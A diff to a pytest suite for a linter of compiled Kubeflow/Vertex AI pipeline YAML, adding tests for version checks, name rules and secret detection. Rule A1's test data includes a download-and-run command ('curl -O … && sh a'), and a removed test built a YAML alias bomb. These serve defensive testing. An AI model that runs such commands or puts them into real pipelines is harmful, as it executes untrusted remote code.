@@ -16,7 +16,7 @@ import yaml
 from pipeparts.errors import InputError
 from pipeparts.linting import engine
 from pipeparts.linting.air_gap import AirGap
-from pipeparts.linting.document import Document
+from pipeparts.linting.document import Document, Version
 from pipeparts.linting.findings import TARGETS, Finding
 
 Spec = dict[str, Any]
@@ -107,7 +107,7 @@ CASES: dict[str, tuple[Callable[[], str], Callable[[], str]]] = {
         lambda: edited(lambda s: task(s, "importer").update(triggerPolicy={"condition": "true"}), "imports"),
         lambda: compiled("imports"),
     ),
-    "D9": (lambda: edited(lambda s: rename(s, "Clean_Pipeline")), CLEAN),
+    "D9": (lambda: edited(lambda s: rename(s, "2-clean")), CLEAN),
     "D10": (lambda: compiled("clean") + "\nschemaVersion: 2.1.0\n", CLEAN),
     "V1": (
         lambda: edited(lambda s: constant(s, "{{$.pipeline_google_cloud_project_id}}")),
@@ -168,9 +168,11 @@ CASES: dict[str, tuple[Callable[[], str], Callable[[], str]]] = {
     "L2": (lambda: compiled("one_of_artifacts"), lambda: compiled("one_of_parameters")),
     "L3": (lambda: compiled("nested_named_condition"), CLEAN),
     "L4": (lambda: compiled("loop_over_named_output"), lambda: compiled("loop_over_output")),
+    "L5": (lambda: compiled("in_an_image"), CLEAN),
+    "L6": (lambda: compiled("imports_from_a_bucket"), lambda: compiled("imports")),
     "A1": (
         lambda: edited(lambda s: container(s)["command"].__setitem__(2, "curl -O https://x.example/a && sh a")),
-        CLEAN,
+        lambda: edited(lambda s: container(s)["command"].__setitem__(2, "curl http://localhost:8080/health")),
     ),
     "A2": (lambda: edited(lambda s: container(s).update(image="ghcr.io/team/python:1.0")), CLEAN),
     "A3": (lambda: edited(lambda s: container(s).update(image="registry.example/team/python")), CLEAN),
@@ -181,13 +183,13 @@ CASES: dict[str, tuple[Callable[[], str], Callable[[], str]]] = {
 OLD = (2, 10)
 
 
-def findings(text: str, *, kubeflow_version: tuple[int, int] | None = OLD) -> list[Finding]:
+def findings(text: str, *, kubeflow_version: Version | None = OLD) -> list[Finding]:
     gap = AirGap(("registry.example",))
     return engine.lint(Document(text, "p.yaml"), kubeflow_version=kubeflow_version, air_gap=gap)
 
 
 def test_every_rule_has_a_pipeline_that_breaks_it_and_one_that_does_not() -> None:
-    assert sorted(CASES) == sorted(rule.id for rule in [*engine.all_rules(), *AirGap(()).rules()])
+    assert sorted(CASES) == sorted(rule.id for rule in engine.listed_rules())
 
 
 @pytest.mark.parametrize("rule", CASES)
@@ -244,9 +246,42 @@ def test_cpus_and_memory_are_read_with_their_units() -> None:
 
 
 @pytest.mark.parametrize(("version", "rules"), [((2, 10), {"C2"}), ((2, 13), {"C2"}), ((2, 14), set()), (None, set())])
-def test_what_an_old_kubeflow_lacks_is_an_error_there(version: tuple[int, int] | None, rules: set[str]) -> None:
+def test_what_an_old_kubeflow_lacks_is_an_error_there(version: Version | None, rules: set[str]) -> None:
     found = findings(compiled("handled"), kubeflow_version=version)
     assert {f.rule.id for f in found if f.severity == "error"} == rules
+
+
+@pytest.mark.parametrize(
+    ("version", "severity"),
+    [(None, "warning"), ((2, 16), "error"), ((2, 16, 0), "error"), ((2, 16, 1), None), ((2, 17), None)],
+)
+def test_where_the_release_is_known_a_rule_is_certain(version: Version | None, severity: str | None) -> None:
+    (finding,) = [f for f in findings(compiled("asks"), kubeflow_version=version) if f.rule.id == "V4"]
+    assert finding.targets.get("kubeflow") == severity
+
+
+def test_a_newer_sdk_that_is_known_to_break_is_an_error() -> None:
+    for sdk, severity in (("kfp-2.15.1", "error"), ("kfp-2.15.2", "warning")):
+        text = edited(lambda spec, sdk=sdk: spec.update(sdkVersion=sdk))
+        (finding,) = [f for f in findings(text, kubeflow_version=(2, 14)) if f.rule.id == "X1"]
+        assert finding.severity == severity
+
+
+@pytest.mark.parametrize(
+    ("name", "severity"),
+    [
+        ("train-2", None),
+        ("Clean_Pipeline", "warning"),
+        ("Train every week", "warning"),
+        ("2-train", "error"),
+        ("t" * 113, None),
+        ("t" * 114, "error"),
+        ("___", "error"),
+    ],
+)
+def test_a_name_is_judged_by_the_id_that_vertex_ai_s_client_makes_of_it(name: str, severity: str | None) -> None:
+    found = [f for f in findings(edited(lambda s: rename(s, name))) if f.rule.id == "D9"]
+    assert [f.targets for f in found] == ([{"vertex": severity}] if severity else [])
 
 
 @pytest.mark.parametrize(
@@ -285,6 +320,57 @@ def test_what_is_no_secret_is_left_alone(name: str, value: str) -> None:
     assert "P4" not in [f.rule.id for f in findings(edited(lambda s: env(s, name, value)))]
 
 
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["tool", "--password", "hunter22"],
+        ["tool", "--password=hunter22"],
+        ["sh", "-c", "export DB_PASSWORD=hunter22 && tool"],
+        ["python", "-c", "connect(password='hunter22')"],
+        ["sh", "-ec", "x", "\ndef f():\n    api_key = 'hunter22'\n"],
+        ["sh", "-c", "psql postgresql://team:hunter22@db.example/x"],
+    ],
+)
+def test_a_secret_in_a_command_is_found_and_not_shown(words: list[str]) -> None:
+    found = findings(edited(lambda s: container(s).update(command=words)))
+    assert "P4" in [f.rule.id for f in found]
+    assert not [f for f in found if "hunter22" in f.message]
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["tool", "--token", "{{$.inputs.parameters['token']}}"],
+        ["tool", "--token", "--verbose"],
+        ["sh", "-c", "TOKEN=$(cat /run/token) tool --password $PASSWORD"],
+        [
+            "sh",
+            "-ec",
+            "x",
+            "\ndef f(tokenizer):\n    tokenizer(pad_token='<pad>', sep_token='[SEP] 1', secret='my-secret')\n",
+        ],
+    ],
+)
+def test_a_reference_in_a_command_is_no_secret(words: list[str]) -> None:
+    assert "P4" not in [f.rule.id for f in findings(edited(lambda s: container(s).update(command=words)))]
+
+
+def test_no_message_shows_a_secret_that_stands_in_what_it_quotes() -> None:
+    address = "https://team:hunter22@index.example/simple"
+    text = edited(lambda s: container(s).update(command=["pip", "install", "--index-url", address, "x"]))
+    found = findings(text)
+    assert {"P2", "P4", "A1"} <= {f.rule.id for f in found}
+    assert not [f for f in found if "hunter22" in f.message]
+
+
+def test_the_image_of_a_custom_job_is_proved_as_well() -> None:
+    job = {"workerPoolSpecs": [{"containerSpec": {"imageUri": "gcr.io/other/trainer"}}]}
+    found = findings(edited(lambda s: executor(s, customJob=job)))
+    assert {("A2", "the image is gcr.io/other/trainer"), ("A3", "the image is gcr.io/other/trainer")} <= {
+        (f.rule.id, f.message) for f in found
+    }
+
+
 def test_a_secret_deep_in_a_default_is_found() -> None:
     text = edited(lambda s: parameter(s, parameterType="STRUCT", defaultValue={"db": [{"password": "hunter22"}]}))
     assert "P4" in [f.rule.id for f in findings(text)]
@@ -300,22 +386,6 @@ def test_rules_are_left_out_by_id_or_name() -> None:
     assert "mutable-image" in caught.value.facts["hint"]
 
 
-@pytest.mark.parametrize(
-    ("text", "message"),
-    [
-        ("", "the file is empty"),
-        ("# nothing\n", "the file is empty"),
-        ("a: [1, 2", "not YAML"),
-        ("\x00\x01", "not YAML"),
-        ("just words", "not a compiled KFP v2 pipeline"),
-        ("- 1\n- 2\n", "not a compiled KFP v2 pipeline"),
-    ],
-)
-def test_what_is_no_pipeline_is_refused(text: str, message: str) -> None:
-    with pytest.raises(InputError, match=message):
-        Document(text, "p.yaml")
-
-
 @pytest.mark.parametrize("path", [(), ("root",), ("deploymentSpec",), ("components",), ("root", "dag", "tasks")])
 @pytest.mark.parametrize("value", [None, 3, "text", [], {}, [{}], {"x": None}, {"x": {"container": 3}}])
 def test_a_damaged_document_gets_findings_and_no_traceback(path: tuple[str, ...], value: Any) -> None:
@@ -328,14 +398,6 @@ def test_a_damaged_document_gets_findings_and_no_traceback(path: tuple[str, ...]
     else:
         spec = {"x": value}
     findings(json.dumps(spec))
-
-
-def test_aliases_are_read_once_and_a_loop_of_them_ends() -> None:
-    bomb = "a: &a [x, x]\n" + "".join(
-        f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)}, *{chr(97 + n)}]\n" for n in range(24)
-    )
-    assert {f.rule.id for f in findings(bomb)} >= {"D2"}
-    findings("root: &r\n  dag: *r\n")
 
 
 def test_json_is_read_too() -> None:
